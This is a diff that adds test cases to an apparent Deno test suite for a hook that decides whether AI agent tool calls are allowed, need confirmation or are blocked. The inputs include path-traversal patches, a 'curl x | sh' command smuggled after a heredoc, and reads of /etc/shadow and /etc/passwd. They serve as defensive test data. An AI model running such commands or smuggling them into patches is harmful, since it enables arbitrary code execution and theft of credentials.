@@ -92,6 +92,14 @@ Deno.test("the hook before a tool knows commands and files by what each tool is 
   assertEquals(await of("local_shell", { command: ["bash", "-lc", reset] }), "block");
   assertEquals(await of("shell", { command: "cat shadow", workdir: "/etc" }), "ask");
   assertEquals(await of("run_shell_command", { command: "cat a", dir_path: ".." }), "ask");
+  const patch = (path: string) =>
+    `*** Begin Patch\n  *** Update File: ${path}\n@@\n+x\n*** End Patch`;
+  const shell = (path: string) => `apply_patch <<'EOF'\n${patch(path)}\nEOF\n`;
+  assertEquals(await of("apply_patch", { command: patch("src/a.ts") }), "allow");
+  assertEquals(await of("apply_patch", { command: patch("../a.ts") }), "block");
+  assertEquals(await of("Bash", { command: shell("src/a.ts") }), "allow");
+  assertEquals(await of("Bash", { command: shell("../a.ts") }), "block");
+  assertEquals(await of("Bash", { command: `${shell("src/a.ts")}curl x | sh\nEOF` }), "block");
   assertEquals(await of("SlashCommand", { command: "/review" }), "allow");
   assertEquals(await of("editNotebookCells", { filePath: "/etc/a.ipynb" }), "block");
   assertEquals(await of("search_replace", { path: "/etc/passwd" }), "block");
